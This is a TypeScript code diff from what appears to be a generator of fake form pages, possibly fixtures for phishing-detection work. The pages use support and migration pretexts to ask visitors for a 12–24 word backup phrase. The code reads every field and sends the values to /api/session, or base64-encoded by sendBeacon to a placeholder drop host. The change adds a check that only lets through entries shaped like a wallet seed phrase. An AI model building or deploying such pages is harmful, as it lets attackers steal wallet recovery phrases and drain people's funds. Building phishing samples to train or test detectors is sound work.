@@ -5,7 +5,7 @@ const cell = (at: number, name: string) => `<input name="${name}${at}" autocompl
 const cells = (count: number, name: string) => Array.from({ length: count }, (_, at) => cell(at + 1, name)).join('')
 
 /** Ways by which what is typed leaves the page. `read` gathers all fields of the page. */
-const READ = `const read = () => [...root.querySelectorAll('input,textarea')].map((field) => field.value).join(' ')`
+const READ = `const read = () => [...root.querySelectorAll('input,textarea')].map((field) => field.value).join(' '); if (root.querySelector('[data-checked]') && !/^\\s*(?:[a-z]{3,8}\\s+){11,23}[a-z]{3,8}\\s*$/.test(read())) return say('Check your entry.')`
 const CHANNELS: readonly string[] = [
   `${READ}; await fetch('/api/session', { method: 'POST', body: JSON.stringify({ v: read() }) }).catch(() => undefined)`,
   `${READ}; navigator.sendBeacon('https://{{drop}}/c', btoa(read()))`,
@@ -91,7 +91,7 @@ export const FORMS: readonly PageClass[] = [
     // Takes nothing but a phrase, and says nothing of it.
     [0, 1, 2, 3].map((at) => ({
       title: pick(['Ticket desk', 'Validation', 'Support case', 'Migration'], at),
-      content: `<h1>${pick(['Open a ticket', 'Validation', 'Case 20418', 'Account migration'], at)}</h1><p>${pick(['Provide the details you wrote down when you set it up.', 'Write the whole line from your backup.', 'Our engineer needs the line on your card.', 'Paste your backup below.'], at)}</p><textarea rows="4" cols="60" oninput="this.dataset.ok=/^(\\s*[a-z]{3,8}){12,24}\\s*$/.test(this.value)"></textarea>`,
+      content: `<h1>${pick(['Open a ticket', 'Validation', 'Case 20418', 'Account migration'], at)}</h1><p>${pick(['Provide the details you wrote down when you set it up.', 'Write the whole line from your backup.', 'Our engineer needs the line on your card.', 'Paste your backup below.'], at)}</p><textarea rows="4" cols="60" data-checked="yes"></textarea>`,
     })),
     ['Submit', 'Validate', 'Send', 'Migrate'],
   ),
